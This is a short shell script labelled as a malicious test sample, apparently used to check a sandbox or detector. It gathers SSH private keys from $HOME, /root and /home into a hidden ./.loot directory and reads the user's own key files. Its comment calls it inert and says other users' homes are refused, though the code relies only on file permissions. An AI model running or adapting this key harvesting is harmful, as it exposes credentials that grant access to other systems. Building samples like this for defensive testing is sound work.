#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: collects SSH private keys from the home directories it can reach (T1552.004).
# Inert: copies stay in the working directory; other users' homes are refused.
mkdir -p ./.loot
find "$HOME" /root /home -maxdepth 3 -name 'id_*' ! -name '*.pub' 2>/dev/null | while read -r key; do
  cp "$key" "./.loot/$(echo "$key" | tr / _)" 2>/dev/null && echo "copied $key"
done
cat "$HOME/.ssh/id_rsa" "$HOME/.ssh/id_ed25519" 2>/dev/null | head -c 64 > /dev/null
ls ./.loot | wc -l
exit 0
